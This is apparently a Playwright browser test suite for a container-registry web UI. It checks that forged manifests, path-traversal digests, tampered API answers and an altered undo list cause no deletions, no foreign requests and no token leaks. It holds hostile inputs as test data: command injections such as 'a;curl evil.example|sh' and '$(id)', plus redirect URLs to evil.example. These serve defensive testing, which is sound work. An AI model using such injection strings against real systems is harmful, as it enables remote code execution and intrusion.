"""What a link can't do: send a request elsewhere, delete elsewhere, put a command on the clipboard.

The registry is the in-memory one, with a blob in it that passes for the API's view of a manifest.
"""

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

import pytest
from playwright.sync_api import Request, Route, expect

from reglite.demo.images import fill_demo
from reglite.demo.registry import MemoryRegistry
from reglite.demo.store import StoredBlob
from reglite.reference import Digest, compute_digest
from tests.browser.conftest import ServeSite
from tests.support.browser import Watch

REPOSITORY = "shop/storefront"
PLACE = {"registry": "nas", "repository": REPOSITORY}
API = f"/api/v1/registries/nas/repositories/{REPOSITORY}"
HOSTILE = ["a;curl evil.example|sh", "a\ncurl evil.example|sh\n", "$(id)", "`id`", "a --insecure"]


@dataclass
class Visit:
    """A page, and what it asked for: ``(method, path, Authorization)`` of each request."""

    watch: Watch
    registry: MemoryRegistry
    asked: list[tuple[str, str, str | None]] = field(default_factory=list)

    def open(self, page: str, **names: str) -> "Visit":
        """Go to a page with these names in its address."""
        self.watch.page.goto(f"/{page}?{urlencode(names, quote_via=quote)}")
        return self

    def note(self, request: Request) -> None:
        parts = urlsplit(request.url)
        self.asked.append((request.method, parts.path, request.headers.get("authorization")))

    def answer(self, pattern: str, document: dict[str, Any]) -> None:
        """Let something between the page and the API answer in its place."""
        self.watch.page.route(pattern, lambda route: route.fulfill(json=document))

    def change(self, pattern: str, **fields: Any) -> None:
        """Change fields of what the API answers."""

        def answer(route: Route) -> None:
            route.fulfill(json={**route.fetch().json(), **fields})

        self.watch.page.route(pattern, answer)

    def expect_refusal(self, code: str) -> None:
        """Wait for the error in the page's place, with its code."""
        expect(self.watch.page.locator("main [role=alert] code")).to_have_text(code)

    @property
    def api(self) -> set[str]:
        """The paths of the API that were asked for."""
        return {path for _, path, _ in self.asked if "/assets/" not in path and ".html" not in path}

    @property
    def tag_digest(self) -> Digest:
        return self.registry.repositories[REPOSITORY].tags["latest"]  # type: ignore[index]


FRAME = {"/api/v1/session", "/api/v1/registries"}


@pytest.fixture
def visit(
    serve: Callable[..., str],
    serve_site: ServeSite,
    memory_registry: MemoryRegistry,
    watch_page: Callable[..., Watch],
) -> Visit:
    fill_demo(memory_registry)
    watch = watch_page(serve_site(serve(memory_registry)), locale="en")
    visit = Visit(watch, memory_registry)
    watch.page.on("request", visit.note)
    return visit


def put_forged_view(registry: MemoryRegistry, target: str) -> Digest:
    """Store a blob that looks like a manifest's view, with this as the manifest's digest."""
    view: dict[str, Any] = {
        **PLACE, "reference": "latest", "digest": target, "media_type": "a/b", "kind": "image",
        "artifact_type": None, "created": None, "size_bytes": 1, "manifest_bytes": 2,
        "annotations": {}, "subject": None, "platforms": [], "members": [], "unread": [],
        "image": None, "layers": [], "raw": "{}",
    }  # fmt: skip
    raw = json.dumps(view).encode()
    digest = compute_digest(raw)
    registry.repositories[REPOSITORY].blobs[digest] = StoredBlob(raw)  # type: ignore[index]
    return digest


def test_a_forged_manifest_behind_a_link_deletes_nothing_elsewhere(visit: Visit) -> None:
    there = f"{visit.tag_digest}/../../../../../shop/checkout/manifests/{visit.tag_digest}"
    forged = put_forged_view(visit.registry, there)
    digest = f"{visit.tag_digest}/../../blobs/{forged}"
    visit.open("manifest.html", **PLACE, digest=digest)
    visit.expect_refusal("DIGEST_INVALID")
    expect(visit.watch.page.locator("[data-part=delete]")).to_be_hidden()
    visit.watch.page.keyboard.press("Delete")
    expect(visit.watch.page.locator("#deletion")).to_be_hidden()
    assert visit.api <= FRAME
    visit.watch.assert_quiet()


OTHERS: list[tuple[str, Any]] = [
    ("registry", "other"),
    ("repository", "shop/checkout"),
    ("repository", None),
    ("reference", "1.0.0"),
    ("digest", f"sha256:{'0' * 64}/../../blobs/sha256:{'0' * 64}"),
    (
        "platforms",
        [{"platform": "linux/amd64", "os_features": [], "digest": "../../..", "attestations": []}],
    ),
    ("layers", [{"digest": "$(id)", "media_type": "a/b", "size_bytes": 1}]),
]


def test_a_manifest_that_is_not_the_one_asked_for_is_not_drawn(visit: Visit) -> None:
    for name, value in OTHERS:
        visit.change("**/tags/latest/manifest", **{name: value})
        visit.open("manifest.html", **PLACE, tag="latest")
        visit.expect_refusal("ANSWER_FOREIGN")
        expect(visit.watch.page.locator("[data-part=delete]")).to_be_hidden()
        expect(visit.watch.page.locator("[data-part=split]")).to_be_hidden()
        visit.watch.page.unroute("**/tags/latest/manifest")
    assert visit.api <= {*FRAME, f"{API}/tags/latest/manifest"}


def test_a_manifest_asked_for_by_digest_that_has_another_is_not_drawn(visit: Visit) -> None:
    visit.change(f"**/manifests/{visit.tag_digest}", digest=f"sha256:{'0' * 64}")
    visit.open("manifest.html", **PLACE, digest=visit.tag_digest)
    visit.expect_refusal("ANSWER_FOREIGN")


@pytest.mark.parametrize(
    "changed", [{"digest": f"sha256:{'0' * 64}"}, {"digest": None}, {"tags": ["../x"]}]
)
def test_a_plan_for_another_image_deletes_nothing(visit: Visit, changed: dict[str, Any]) -> None:
    visit.change("**/deletion-plan?*", **changed)
    visit.open("manifest.html", **PLACE, tag="latest")
    visit.watch.page.get_by_role("button", name="Delete…").click()
    dialog = visit.watch.page.locator("#deletion")
    expect(dialog.locator("code", has_text="ANSWER_FOREIGN")).to_be_visible()
    expect(dialog.locator("[data-part=go]")).to_be_hidden()
    assert {method for method, *_ in visit.asked} == {"GET"}


ELSEWHERE = [
    f"{API}/../../../../../other-app/collect?n=1",
    f"{API}/tags/../../checkout/tags?n=1",
    "/api/v1/registries/other/repositories/shop/storefront/tags?n=1",
    "//evil.example/api/v1/registries/nas/repositories/shop/storefront/tags?n=1",
    "https://evil.example/x?n=1",
    f"{API}/%2e%2e/tags?n=1",
    f"\\{API}/tags?n=1",
    f"\t{API}/tags?n=1",
    f"{API}/tags#?n=1",
    f"{API}/tags?n=1\t2",
]


def test_a_next_page_elsewhere_is_not_asked_for(visit: Visit) -> None:
    for following in ELSEWHERE:
        visit.change("**/tags?*", next=following)
        visit.open("tags.html", **PLACE)
        code = visit.watch.page.locator("main .banner code")
        expect(code).to_have_text(re.compile("ANSWER_FOREIGN|BAD_REQUEST"))
        visit.watch.page.unroute("**/tags?*")
    assert visit.api <= {*FRAME, f"{API}/tags", f"{API}/summaries"}
    assert visit.watch.foreign_requests == []


def test_a_token_is_sent_to_no_other_application_of_the_origin(visit: Visit) -> None:
    page = visit.watch.page
    for document in ("tags.html", "ru/tags.html", "repositories.html", "manifest.html"):
        for registry in ("..", "%2e%2e", "..\\..", "../../other-app", ".\t."):
            page.goto("/nothing-here")
            page.evaluate("() => sessionStorage.setItem('rl-authorization', 'Bearer secret')")
            visit.asked.clear()
            visit.open(document, registry=registry, repository="../../../other/collect", tag="x")
            visit.expect_refusal("REGISTRY_INVALID")
            assert visit.api <= FRAME
            assert {path for _, path, sent in visit.asked if sent} <= FRAME


def test_a_wrong_address_is_told_in_the_readers_language(visit: Visit) -> None:
    for folder, words in (("", "This is no valid tag"), ("ru/", "Недопустимый тег")):
        context = visit.watch.page.context
        page = context.new_page()
        page.add_init_script(f"localStorage.setItem('rl-language', '{folder[:2] or 'en'}')")
        page.goto(f"/{folder}manifest.html?{urlencode({**PLACE, 'tag': '../..'})}")
        expect(page.locator("main [role=alert]")).to_contain_text(words)


def read_copied(visit: Visit) -> list[str]:
    """Return what stands ready for the clipboard on the page."""
    copied: list[str] = visit.watch.page.evaluate(
        "() => [...document.querySelectorAll('main [data-copy]')].map((each) => each.dataset.copy)"
    )
    return [text for text in copied if text]


def test_no_command_of_a_hostile_name_is_ready_to_copy(visit: Visit) -> None:
    visit.answer("**/tags?*", {"errors": [{"code": "NAME_UNKNOWN", "message": "none"}]})
    for text in HOSTILE:
        visit.open("manifest.html", **PLACE, tag=text)
        visit.expect_refusal("TAG_INVALID")
        expect(visit.watch.page.locator("[data-part=pull]")).to_be_hidden()
        assert read_copied(visit) == []
        visit.open("tags.html", registry="nas", repository=text)
        visit.expect_refusal("NAME_INVALID")
        assert read_copied(visit) == []
    assert visit.api <= FRAME


def test_no_command_names_a_hostile_host(visit: Visit) -> None:
    page = visit.watch.page
    for host in (*HOSTILE, "-v"):
        entry = {"name": "nas", "url": "https://nas", "pull_host": host, "source": "inventory"}
        rest = {"auth": "none", "can_delete": True, "protect": []}
        visit.answer("**/api/v1/registries", {"registries": [{**entry, **rest}]})
        visit.open("index.html", all="")
        visit.expect_refusal("ANSWER_FOREIGN")
        visit.open("tags.html", **PLACE)
        expect(page.locator("tr[data-tag] .digest:visible").first).to_be_visible()
        page.wait_for_load_state("networkidle")
        expect(page.locator("main .head [data-part=command]")).to_be_hidden()
        assert [text for text in read_copied(visit) if host in text] == []
        page.unroute("**/api/v1/registries")


def test_an_undo_list_that_was_tampered_with_sends_nothing(visit: Visit) -> None:
    record = {
        **PLACE,
        "digest": "sha256:x/../../../checkout/manifests/y",
        "tags": ["1"],
        "raw": "{}",
        "isImage": False,
    }
    visit.watch.page.goto("/api.html")
    visit.watch.page.evaluate(
        "text => sessionStorage.setItem('reglite.undo', text)", json.dumps([record])
    )
    visit.open("tags.html", **PLACE)
    visit.watch.page.get_by_role("button", name="Undo").click()
    expect(visit.watch.page.locator(".banner.danger code")).to_have_text("DIGEST_INVALID")
    assert {method for method, *_ in visit.asked} == {"GET"}
